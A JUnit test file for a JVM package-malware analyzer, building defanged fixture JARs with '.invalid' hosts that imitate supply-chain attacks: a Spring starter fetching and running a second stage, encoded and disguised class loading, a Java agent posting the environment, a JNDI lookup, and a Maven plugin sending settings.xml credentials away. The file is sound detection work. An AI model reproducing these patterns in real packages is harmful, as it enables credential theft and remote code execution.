package dev.gatehouse.analyzer.jvm;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.Severity;
import dev.gatehouse.analyzer.Trigger;
import dev.gatehouse.analyzer.fixtures.JarFixture;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Inert replicas of the ways malicious JVM packages run their code: every host ends in {@code .invalid},
 * every command is harmless, and nothing here is ever loaded.
 */
class AttackShapesTest {
  @TempDir Path tmp;

  /**
   * A typosquatted Spring starter: auto-configuration that fetches a second stage at startup and runs
   * it, the shape used by fake Spring/Jackson artifacts on Maven Central.
   */
  @Test
  void starterWhoseAutoConfigurationFetchesAndRunsASecondStageIsHigh() throws Exception {
    Path jar = JarFixture.builder()
        .javaSource("fixture/boot/StarterAutoConfiguration", """
            package fixture.boot;
            import java.io.InputStream;
            import java.nio.file.*;
            public class StarterAutoConfiguration {
              public StarterAutoConfiguration() {
                Thread loader = new Thread(() -> {
                  try (InputStream in = new java.net.URL("https://cdn.invalid/update.bin").openStream()) {
                    Path stage2 = Files.createTempFile("upd", ".bin");
                    Files.copy(in, stage2, StandardCopyOption.REPLACE_EXISTING);
                    new ProcessBuilder("true", stage2.toString()).start();
                  } catch (Exception ignored) { }
                });
                loader.setDaemon(true);
                loader.start();
              }
            }
            """)
        .resource("META-INF/spring/org.springframework.boot.autoconfigure.AutoConfiguration.imports",
            "fixture.boot.StarterAutoConfiguration\n")
        .build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.PLUGIN_ENTRY_POINT);
      assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN, Capability.NETWORK);
      assertThat(f.severity()).isEqualTo(Severity.HIGH);
      assertThat(f.summary()).isEqualTo("Spring Boot auto-configuration fixture.boot.StarterAutoConfiguration, which "
          + "Spring loads at startup: its constructor reaches process spawn and network");
    });
  }

  /** An annotation processor that smuggles a class in as Base64 and defines it inside javac. */
  @Test
  void annotationProcessorThatDefinesAnEncodedClassIsCritical() throws Exception {
    Path jar = JarFixture.builder().service("javax.annotation.processing.Processor", "fixture.apt.Gen")
        .javaSource("fixture/apt/Gen", """
            package fixture.apt;
            import java.util.*;
            import javax.annotation.processing.*;
            import javax.lang.model.element.TypeElement;
            public class Gen extends AbstractProcessor {
              private static final String BLOB = "yv66vgAAAD0ACgoAAgADBwAEDAAFAAY=";
              @Override public synchronized void init(ProcessingEnvironment env) {
                super.init(env);
                byte[] code = Base64.getDecoder().decode(BLOB);
                new ClassLoader(Gen.class.getClassLoader()) {
                  Class<?> load() { return defineClass("Stage2", code, 0, code.length); }
                }.load();
              }
              @Override public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment round) {
                return false;
              }
            }
            """).build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.ANNOTATION_PROCESSOR);
      assertThat(f.capabilities()).containsExactly(Capability.DYNAMIC_CODE, Capability.ENCODED_PAYLOAD);
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
    });
  }

  /** A second stage kept as a resource that is a class file under another name, defined at class init. */
  @Test
  void staticInitializerThatDefinesAClassKeptUnderAnotherNameIsHigh() throws Exception {
    byte[] stage2 = JarFixture.builder().javaSource("fixture/Stage2", "package fixture; public class Stage2 { }")
        .compiledClass("fixture.Stage2");
    Path jar = JarFixture.builder()
        .javaSource("fixture/Boot", """
            package fixture;
            public class Boot extends ClassLoader {
              static {
                try (var in = Boot.class.getResourceAsStream("/fixture/font.dat")) {
                  byte[] b = in.readAllBytes();
                  new Boot().defineClass(null, b, 0, b.length).getConstructor().newInstance();
                } catch (Exception ignored) { }
              }
            }
            """)
        .resource("fixture/font.dat", stage2)
        .build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.capabilities()).containsExactly(Capability.DYNAMIC_CODE, Capability.OBFUSCATION);
      assertThat(f.severity()).isEqualTo(Severity.HIGH);
      assertThat(f.evidence().excerpt()).isEqualTo("fixture/Boot.defineClass; class file hidden as fixture/font.dat");
    });
  }

  /** A Java agent that posts the CI runner's whole environment (tokens included) before main. */
  @Test
  void agentThatPostsTheEnvironmentIsCritical() throws Exception {
    Path jar = JarFixture.builder().manifest("Premain-Class", "fixture.agent.Boot").javaSource("fixture/agent/Boot", """
        package fixture.agent;
        import java.net.*;
        import java.net.http.*;
        public class Boot {
          public static void premain(String args) throws Exception {
            HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("https://collector.invalid/env"))
                .POST(HttpRequest.BodyPublishers.ofString(System.getenv().toString())).build(),
                HttpResponse.BodyHandlers.discarding());
          }
        }
        """).build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.JAVA_AGENT);
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
      assertThat(f.capabilities()).containsExactly(Capability.NETWORK, Capability.ENVIRONMENT_READ);
    });
  }

  /** Log4Shell's shape in a class that loads by itself: a directory lookup of a name the caller controls. */
  @Test
  void driverThatLooksUpAComputedJndiNameIsDynamicCode() throws Exception {
    Path jar = JarFixture.builder().service("java.sql.Driver", "fixture.db.Driver").javaSource("fixture/db/Driver", """
        package fixture.db;
        public class Driver {
          static {
            try { new javax.naming.InitialContext().lookup("ldap://" + System.getProperty("fixture.host") + "/a"); }
            catch (Exception ignored) { }
          }
        }
        """).build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.SERVICE_REGISTRATION);
      assertThat(f.capabilities()).containsExactly(Capability.DYNAMIC_CODE);
      assertThat(f.evidence().excerpt()).isEqualTo("javax/naming/InitialContext.lookup(computed name)");
    });
  }

  /** A Maven plugin that reads the deploy credentials in settings.xml and sends them away. */
  @Test
  void mavenPluginThatSendsSettingsXmlAwayIsCritical() throws Exception {
    Path jar = JarFixture.builder()
        .javaSource("fixture/mojo/LintMojo", """
            package fixture.mojo;
            import java.io.*;
            import java.net.*;
            public class LintMojo {
              public void execute() {
                File settings = new File(System.getProperty("user.home"), ".m2/settings.xml");
                try (InputStream in = new FileInputStream(settings); Socket out = new Socket("lint.invalid", 443)) {
                  in.transferTo(out.getOutputStream());
                } catch (IOException ignored) { }
              }
            }
            """)
        .resource("META-INF/maven/plugin.xml", "<plugin><mojos><mojo><goal>lint</goal>"
            + "<implementation>fixture.mojo.LintMojo</implementation></mojo></mojos></plugin>")
        .build(tmp);
    assertThat(JarAnalysis.of(jar).code()).singleElement().satisfies(f -> {
      assertThat(f.trigger()).isEqualTo(Trigger.BUILD_PLUGIN);
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
      assertThat(f.capabilities()).containsExactly(Capability.NETWORK, Capability.CREDENTIAL_READ);
      assertThat(f.evidence().excerpt()).startsWith("ldc \".m2/settings.xml\"");
    });
  }
}
